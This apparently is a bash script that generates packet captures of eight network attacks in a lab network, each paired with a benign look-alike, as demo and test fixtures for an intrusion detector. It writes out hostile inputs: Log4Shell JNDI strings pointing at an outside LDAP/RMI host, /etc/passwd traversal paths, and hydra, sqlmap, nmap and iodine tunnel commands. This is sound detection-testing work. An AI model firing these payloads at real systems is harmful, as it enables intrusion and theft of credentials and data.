#!/bin/bash
# Captures the eight network attacks into deploy/demo, and their harmless twins into tests/golden.
#
#   attacks.sh [SLUG...]      (all, when none is named; `net.sh up` first)
#
# Needs tcpdump, dig, unbound, iodine, nmap, hydra, sqlmap, curl, editcap. A twin is the same traffic but for one detail;
# each tests/golden/SLUG/README.md names it.
cd "$(dirname "${BASH_SOURCE[0]}")"
. ./net.sh
demo=$(realpath ..)
golden=$(realpath ../../..)/tests/golden
tmp=$(mktemp -d)
trap 'stop_all; rm -rf "$tmp"' EXIT

site=http://cong.example.vn
chrome='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'
browser() { local from=$1; shift; on out curl -s -o /dev/null --interface "$from" -A "$chrome" --resolve cong.example.vn:80:10.60.20.10 "$@"; }

# resolver ZONE_LINES: (re)start the commune's unbound with these local zones
resolver() {
    [ -z "${unbound_pid:-}" ] || stop "$unbound_pid"
    cat >"$tmp/unbound.conf" <<CONF
server:
  directory: "$tmp"
  username: ""
  chroot: ""
  pidfile: ""
  use-syslog: no
  interface: 10.60.31.2
  access-control: 10.60.31.0/24 allow
  module-config: "iterator"
  do-ip6: no
  qname-minimisation: no
  local-data: "cong.example.vn. 60 A 10.60.20.10"
$1
stub-zone:
  name: "t.example.com."
  stub-addr: 198.51.100.53
CONF
    start res unbound -d -c "$tmp/unbound.conf" 2>"$tmp/unbound.log"; unbound_pid=$started
    until on xa dig +tries=1 +time=1 @10.60.31.2 cong.example.vn >/dev/null 2>&1; do sleep 0.2; done
}

# a word of N letters and digits, always the same for the same seed
word() { printf '%s' "$1" | sha256sum | cut -c "1-$2"; }

dns_tunnel() {
    resolver ''
    start isp iodined -f -c -P hai-dang-thu -l 127.0.0.1 -p 5353 10.99.0.1/27 t.example.com >"$tmp/iodined.log" 2>&1
    start isp python3 ./fold.py 198.51.100.53 127.0.0.1:5353
    sleep 1
    capture "$demo/dns-tunnel.pcap" xa 'host 10.60.31.21 or host 10.60.31.22'
    start xa iodine -f -r -m 500 -T TXT -P hai-dang-thu 10.60.31.2 t.example.com >"$tmp/iodine.log" 2>&1; local client=$started
    timeout 30 bash -c "until grep -q 'setup complete' '$tmp/iodine.log'; do sleep 0.2; done" || cat "$tmp/iodine.log"
    on xa ping -q -c 16 -i 0.3 -s 300 10.99.0.1 >/dev/null
    on xa dig +tries=1 @10.60.31.2 -b 10.60.31.22 cong.example.vn >/dev/null
    stop "$client"; captured

    resolver '  local-zone: "t.example.com." redirect
  local-data: "t.example.com. 60 TXT sach"'
    capture "$golden/dns-tunnel/silent/input.pcap" xa 'udp port 53'
    for n in $(seq 60); do on xa dig +tries=1 @10.60.31.2 -b 10.60.31.21 "$(word "tep-$n" 32).t.example.com" TXT >/dev/null; done
    captured
}

nxdomain_storm() {
    local answer file
    for answer in static redirect; do
        resolver "  local-zone: \"example.test.\" $answer
  local-data: \"example.test. 60 A 198.51.100.80\""
        file=$demo/nxdomain-storm.pcap
        [ "$answer" = static ] || file=$golden/nxdomain-storm/silent/input.pcap
        capture "$file" xa 'udp port 53'
        for n in $(seq 48); do on xa dig +tries=1 @10.60.31.2 -b 10.60.31.21 "$(word "dga-$n" 14).example.test" A >/dev/null; done
        for n in 1 2 3; do on xa dig +tries=1 @10.60.31.2 -b 10.60.31.22 "ww$n.example.test" A >/dev/null; done
        captured
    done
}

port_scan() {
    capture "$tmp/scan.pcap" out 'host 203.0.113.9 or host 203.0.113.77'
    start out nmap -sS -Pn -n -T4 --top-ports 200 -S 203.0.113.9 -e eth0 10.60.20.10 >/dev/null; local scan=$started
    for n in 1 2 3 4 5; do browser 203.0.113.77 "$site/"; done
    wait "$scan"; captured
    editcap -F pcapng "$tmp/scan.pcap" "$demo/port-scan.pcapng"
    capture "$golden/port-scan/silent/input.pcap" out 'host 203.0.113.9'
    on out nmap -sS -Pn -n -T4 --top-ports 20 -S 203.0.113.9 -e eth0 10.60.20.10 >/dev/null
    captured
}

http_login_brute_force() {
    for n in $(seq 36); do word "mat-khau-$n" 8; echo; done >"$tmp/passwords"
    capture "$demo/http-login-brute-force.pcap" dc 'tcp port 80'
    start out timeout 60 hydra -q -t 4 -l quantri -P "$tmp/passwords" http-post://10.60.20.10/quan-tri >/dev/null 2>&1; local hydra=$started
    for n in 1 2; do browser 203.0.113.77 -d "u=lan.nt&p=nham-$n" "$site/dang-nhap"; done
    browser 203.0.113.77 -d 'u=lan.nt&p=TraCuu-2026' "$site/dang-nhap"
    wait "$hydra" || true; captured
    capture "$golden/http-login-brute-force/silent/input.pcap" dc 'tcp port 80'
    for n in 1 2 3; do browser 203.0.113.9 -u "quantri:nham-$n" -d x=1 "$site/quan-tri"; done
    for n in $(seq 36); do browser 203.0.113.9 -u quantri:TraCuu-2026 -d x=1 "$site/quan-tri"; done
    captured
}

sql_injection() {
    capture "$demo/sql-injection.pcap" dc 'tcp port 80'
    browser 203.0.113.77 "$site/tra-cuu?so=12"
    on out timeout 60 sqlmap -u 'http://10.60.20.10/tra-cuu?so=12' --technique=U --level=1 --dbms=sqlite --union-cols=2-3 --batch --disable-coloring \
        --output-dir="$tmp/sqlmap" --flush-session --tables >"$tmp/sqlmap.log" 2>&1 || true
    captured
    tail -4 "$tmp/sqlmap.log"
    capture "$golden/sql-injection/silent/input.pcap" dc 'tcp port 80'
    for query in 12 12%20and%20the%20union 12%20select%20committee sleep%20and%20rest 12%20or%2013; do
        browser 203.0.113.9 "$site/tra-cuu?so=$query"
    done
    captured
}

path_traversal() {
    capture "$demo/path-traversal.pcap" dc 'tcp port 80'
    browser 203.0.113.77 "$site/tai-lieu/bao-cao..quy-3.html"
    for path in ../../../../etc/passwd ..%2f..%2f..%2f..%2fetc/passwd %2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd %2E%2E/%2E%2E/%2E%2E/etc/passwd; do
        browser 203.0.113.9 --path-as-is "$site/tai-lieu/$path"
    done
    captured
    capture "$golden/path-traversal/silent/input.pcap" dc 'tcp port 80'
    for path in bao-cao..quy-3.html bao-cao...2026.html etc/passwd-chinh-sach..v2.html huong-dan%2e%2edoi-mat-khau.html; do
        browser 203.0.113.9 --path-as-is "$site/tai-lieu/$path"
    done
    captured
}

log4shell() {
    capture "$demo/log4shell.pcap" dc 'tcp port 80'
    browser 203.0.113.77 "$site/"
    browser 203.0.113.9 -g -A '${jndi:ldap://203.0.113.9:1389/a}' "$site/"
    browser 203.0.113.9 -g "$site/?x=\${jndi:ldap://203.0.113.9:1389/b}"
    browser 203.0.113.9 -g -A '${JnDi:RMI://203.0.113.9:1099/c}' "$site/dang-nhap"
    captured
    capture "$golden/log4shell/silent/input.pcap" dc 'tcp port 80'
    browser 203.0.113.9 "$site/"
    browser 203.0.113.9 -g -A '${jndi} ldap://203.0.113.9:1389/a' "$site/"
    browser 203.0.113.9 -g "$site/?x=\${jndi}ldap://203.0.113.9:1389/b"
    browser 203.0.113.9 -g -A '${JnDi}RMI://203.0.113.9:1099/c' "$site/dang-nhap"
    captured
}

scanner_user_agent() {
    local scripts=http-title,http-headers,http-methods,http-robots.txt,http-server-header
    capture "$demo/scanner-user-agent.pcap" dc 'tcp port 80'
    browser 203.0.113.77 "$site/"
    on out nmap -n -Pn -p 80 -S 203.0.113.9 -e eth0 --script "$scripts" 10.60.20.10 >/dev/null
    captured
    capture "$golden/scanner-user-agent/silent/input.pcap" dc 'tcp port 80'
    on out nmap -n -Pn -p 80 -S 203.0.113.9 -e eth0 --script "$scripts" --script-args "http.useragent='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'" 10.60.20.10 >/dev/null
    captured
}

start dc python3 ./portal.py
sleep 1
[ $# -gt 0 ] || set -- dns-tunnel nxdomain-storm port-scan http-login-brute-force sql-injection path-traversal log4shell scanner-user-agent
for slug; do
    mkdir -p "$golden/$slug/fires" "$golden/$slug/silent"
    "${slug//-/_}"
done
